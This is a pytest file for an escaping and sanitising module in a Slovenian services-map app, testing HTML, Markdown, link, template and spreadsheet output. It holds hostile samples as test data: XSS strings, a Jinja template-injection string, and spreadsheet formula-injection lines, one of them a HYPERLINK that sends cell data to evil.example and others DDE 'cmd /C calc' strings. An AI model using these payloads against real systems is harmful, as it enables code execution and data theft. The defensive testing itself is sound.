"""Escaping and link schemes: hostile strings never become markup or script."""
from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from geo import safe

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "\" onmouseover='alert(1)'",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_html_text_leaves_no_tag_or_quote(text):
    escaped = safe.html_text(text)
    assert "<" not in escaped and ">" not in escaped and '"' not in escaped and "'" not in escaped


@pytest.mark.parametrize("text", HOSTILE + ["[click](javascript:alert(1))"])
def test_md_text_leaves_no_markdown_link_or_tag(text):
    escaped = safe.md_text(text)
    assert "](" not in escaped and "<" not in escaped.replace("\\<", "")


@pytest.mark.parametrize(
    "url, href",
    [
        ("www.odu-koper.si", "https://www.odu-koper.si"),
        ("sites.google.com/site/cdakoper", "https://sites.google.com/site/cdakoper"),
        ("http://example.si/a?b=1", "http://example.si/a?b=1"),
        ("javascript:alert(1)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("data:text/html,<script>", None),
        ("https://x.si/\"><script>", None),
        ("", None),
    ],
)
def test_only_http_links(url, href):
    assert safe.web_href(url) == href


def test_mailto_and_tel():
    assert safe.mailto_href("info@odu.si") == "mailto:info@odu.si"
    assert safe.mailto_href("x@y.si?subject=<b>") is None
    assert safe.tel_href("+38656634550") == "tel:+38656634550"
    assert safe.tel_href("javascript:alert(1)") is None


def test_directions_links_are_encoded():
    assert safe.osm_directions_href(45.5, 13.7).startswith("https://www.openstreetmap.org/directions?to=45.500000%2C13.700000")
    assert "%3Cscript%3E" in safe.google_directions_href("<script>")


def test_template_syntax_from_data_is_escaped_so_it_never_runs_on_the_server():
    assert safe.html_text("{{ 7*7 }} {% raw %}") == "&#123;&#123; 7*7 &#125;&#125; &#123;% raw %&#125;"


def test_a_service_named_with_template_syntax_is_shown_not_evaluated(tmp_path):
    import datetime as dt
    import json

    from geo import areas, directory, mapping, settings

    data = settings.PROJECT_DIR / "data"
    table = directory.build_directory(data).services
    row = table.index[table["id"] == "care-home-odu"][0]
    table.loc[row, "name_sl"] = "{{ 7*7 }} {{ cycler.__init__.__globals__.os.getpid() }} {% if 1 %}x{% endif %}"
    outline = json.loads((data / settings.MUNICIPALITY_OUTLINE_FILE).read_text("utf-8"))
    m = mapping.build_map(table, "sl", boundaries=areas.load_boundaries(data), outline=outline, settlements=None,
                          when=dt.datetime(2026, 11, 23, 10, 0))
    rendered = m.get_root().render()
    # inside the popup's JSON string "&" is written \u0026: the braces arrive as entities
    assert "\\u0026#123;\\u0026#123; 7*7 \\u0026#125;\\u0026#125;" in rendered
    assert "os.getpid() \\u0026#125;\\u0026#125;" in rendered  # shown as text, never run
    assert " 49 " not in rendered


# --- spreadsheets -------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_spreadsheet_cell_quotes_every_formula_start(text):
    cell = safe.spreadsheet_cell(text)
    assert cell == "'" + text
    assert safe.from_spreadsheet_cell(cell) == text


@pytest.mark.parametrize("value", [12, -3.5, 0, True, None, "Čajanke", "05 663 45 50", "a=b", "", "'plain"])
def test_spreadsheet_cell_leaves_real_values_alone(value):
    assert safe.spreadsheet_cell(value) == value and type(safe.spreadsheet_cell(value)) is type(value)
    assert safe.from_spreadsheet_cell(value) == value


def test_a_phone_number_stays_text_with_its_plus():
    assert safe.spreadsheet_cell("+38656634550") == "'+38656634550"
    assert safe.from_spreadsheet_cell("'+38656634550") == "+38656634550"


@pytest.mark.parametrize("text", ["'=1", "''+2", "'-"])
def test_quotes_already_in_the_data_read_back_exactly(text):
    cell = safe.spreadsheet_cell(text)
    assert cell == "'" + text
    assert safe.from_spreadsheet_cell(cell) == text


def test_spreadsheet_frame_quotes_text_keeps_numbers_and_input():
    import numpy as np
    import pandas as pd

    frame = pd.DataFrame({"=name": ["=1+1", "Koper", None], "count": [-1, 2, 3], "share": [-0.5, np.nan, 1.0]})
    out = safe.spreadsheet_frame(frame)
    assert list(out.columns) == ["'=name", "count", "share"]
    assert out["'=name"].tolist()[:2] == ["'=1+1", "Koper"] and pd.isna(out["'=name"].iloc[2])
    assert out["count"].tolist() == [-1, 2, 3] and out["count"].dtype == frame["count"].dtype
    assert out["share"].dtype == frame["share"].dtype and out["share"].iloc[0] == -0.5
    assert frame["=name"].iloc[0] == "=1+1"  # the input is not changed


# --- Markdown in Streamlit ------------------------------------------------------------------

MARKDOWN_PAYLOADS = ["![x](http://evil.example/i.png)", "[click](http://evil.example/l)", "http://evil.example/auto",
                     "https://evil.example", "www.evil.example/w", "WWW.EVIL.EXAMPLE", "<http://evil.example/a>",
                     ":material/warning:", ":red[red]", ":rainbow-background[x]", ":smile: :+1: :100:", ":streamlit:",
                     "x@evil.example", "&#58;material/home&#58;", "$x^{$", "Title\n===", "# h", "[r][1]\n\n[1]: http://e.x"]


@pytest.mark.parametrize("text", MARKDOWN_PAYLOADS)
def test_md_text_leaves_no_streamlit_code_autolink_or_reference(text):
    escaped = safe.md_text(text)
    # what Streamlit rewrites in the raw text before parsing ...
    assert ":material/" not in escaped
    # ... and what the autolink / emoji / directive finders see in the parsed text (backslashes gone)
    parsed = escaped.replace("\\", "")
    assert not re.search(r"https?://|www\.|[\w.+-]+@[\w-]+\.|:[\w+-]+:|:[\w-]+\[", parsed, re.IGNORECASE), parsed
    assert "](" not in escaped and "&#" not in escaped.replace("\\&#", "")
    # only invisible characters and backslashes were added: the reader sees the text as it was
    assert parsed.replace("\u200b", "") == text


@pytest.mark.parametrize("text", ["08:00–16:00", "Opomba: pokličite", "Pon–Pet 8:00", "5 km", "Koper"])
def test_md_text_keeps_times_and_plain_text_readable(text):
    assert "\u200b" not in safe.md_text(text)


# --- properties (Hypothesis, derandomised) ----------------------------------------------------

_TEXT = st.text(st.characters(exclude_characters="\u200b"), max_size=40) | st.sampled_from(
    ["=1", "+386", "-", "@x", "\t=1", "\r=1", "'=1", "''-2", "http://x.si", ":red[x]", "www.a.si", "a@b.si"])
_property = hypothesis_settings(derandomize=True, max_examples=300, deadline=None)


@_property
@given(_TEXT)
def test_every_text_is_spreadsheet_safe_and_reads_back(text):
    cell = safe.spreadsheet_cell(text)
    assert not cell.startswith(safe.FORMULA_START)
    assert safe.from_spreadsheet_cell(cell) == text


@_property
@given(_TEXT)
def test_md_text_only_adds_escapes_and_invisible_spaces(text):
    escaped = safe.md_text(text)
    assert re.sub(r"\\(.)", r"\1", escaped, flags=re.DOTALL).replace("\u200b", "") == text
    assert ":material/" not in escaped and not re.search(r"https?://|www\.", escaped.replace("\\", ""), re.I)


def test_link_labels_keep_e_mail_addresses_copyable():
    label = safe.md_link_label("suvada.catak@odu.si")
    assert "\u200b" not in label and label.replace("\\", "") == "suvada.catak@odu.si"
    assert safe.md_link_label("[x](javascript:alert(1))").startswith("\\[x\\]")  # still no link inside a link
    assert "\u200b" in safe.md_text("suvada.catak@odu.si")  # plain text still breaks autolinks


def test_details_show_e_mail_links_without_hidden_characters():
    from geo import present

    record = {"emails": ["suvada.catak@odu.si"], "target_groups": [], "location_type": "site"}
    import datetime as dt

    text = present.details_markdown(record, "sl", dt.datetime(2026, 12, 1, 10))
    assert "[suvada\\.catak@odu\\.si](mailto:suvada.catak@odu.si)" in text and "\u200b" not in text
